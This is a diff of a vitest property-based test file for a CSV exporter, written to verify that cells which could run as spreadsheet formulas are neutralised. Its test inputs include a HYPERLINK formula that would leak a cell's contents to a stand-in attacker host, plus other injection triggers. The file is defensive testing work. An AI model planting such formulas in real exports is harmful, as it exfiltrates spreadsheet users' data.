@@ -1,4 +1,4 @@
-import fc from 'fast-check';
+import * as fc from 'fast-check';
 import Papa from 'papaparse';
 import { describe, expect, test } from 'vitest';
 import { type Cell, readGuarded, toCsv } from '../../../../lib/export/csv.ts';
@@ -15,16 +15,17 @@ function parsed(text: string): string[][] {
 /** What a spreadsheet would run or swallow: written apart from the writer's own rule, character by character. */
 function couldRun(cell: string): boolean {
   const unseen = /[\p{Zs}\u200b-\u200f\u202a-\u202e\u2060-\u2069\ufeff\u00ad\u061c\u180e]/u;
-  const seen = [...cell].find((character) => !unseen.test(character));
+  const seen = Array.from(cell).find((character) => !unseen.test(character));
   return [cell.charAt(0), seen ?? ''].some(
     (first) => first !== '' && '=+-@\t\r\n\0＝＋－＠'.includes(first),
   );
 }
 
+// prettier-ignore
 const nasty = fc.constantFrom(
-  ...['=', '+', '-', '@', '\t', '\r', '\n', '\r\n', '\0', '＝', '＋', '－', '＠', "'", '"', ',', ';', ' '],
-  ...['\u00a0', '\u200b', '\u200e', '\u202e', '\u2066', '\ufeff', '\u3000', '\u00ad', 'x', '1', 'ñ', '🙂', '\u2028'],
-  ...['=HYPERLINK("http://evil.example/?"&A1)', 'a;=1+1', '001234', '0', '-5', '+1-202-555-0100', "''"],
+  '=', '+', '-', '@', '\t', '\r', '\n', '\r\n', '\0', '＝', '＋', '－', '＠', "'", '"', ',', ';', ' ',
+  '\u00a0', '\u200b', '\u200e', '\u202e', '\u2066', '\ufeff', '\u3000', '\u00ad', 'x', '1', 'ñ', '🙂', '\u2028',
+  '=HYPERLINK("http://evil.example/?"&A1)', 'a;=1+1', '001234', '0', '-5', '+1-202-555-0100', "''",
 );
 const text = fc.oneof(
   fc.string({ unit: 'grapheme' }),
@@ -66,8 +67,25 @@ test('20,000 generated rows: nothing a spreadsheet could run, nothing lost', () 
 
 describe('the guard', () => {
   test.each([
-    '=1+1', '+1', '-1', '@A1', '\tx', '\rx', '\nx', '\0x', '＝1', '＋1', '－1', '＠A1', ' =1', '\u00a0\u200b=1', '\u202e=1',
-    '\ufeff=1', '=1\nsecond line', "'already", " 'already",
+    '=1+1',
+    '+1',
+    '-1',
+    '@A1',
+    '\tx',
+    '\rx',
+    '\nx',
+    '\0x',
+    '＝1',
+    '＋1',
+    '－1',
+    '＠A1',
+    ' =1',
+    '\u00a0\u200b=1',
+    '\u202e=1',
+    '\ufeff=1',
+    '=1\nsecond line',
+    "'already",
+    " 'already",
   ])('one apostrophe before %j', (value) => {
     expect(parsed(toCsv([], [[value]]))[1]).toEqual([`'${value}`]);
     expect(readGuarded(`'${value}`)).toBe(value);
@@ -83,9 +101,15 @@ describe('the guard', () => {
 });
 
 test('the file as it is written: byte order mark, CRLF, texts quoted, numbers plain, unknown empty', () => {
-  expect(toCsv(['ID', 'Days', 'Of'], [['001234', 19.5, null], ['say "hi"\nthere', -0, 0]])).toBe(
-    `${bom}"ID","Days","Of"\r\n"001234",19.5,\r\n"say ""hi""\nthere",0,0\r\n`,
-  );
+  expect(
+    toCsv(
+      ['ID', 'Days', 'Of'],
+      [
+        ['001234', 19.5, null],
+        ['say "hi"\nthere', -0, 0],
+      ],
+    ),
+  ).toBe(`${bom}"ID","Days","Of"\r\n"001234",19.5,\r\n"say ""hi""\nthere",0,0\r\n`);
 });
 
 test('a number that is none stays empty, never 0', () => {
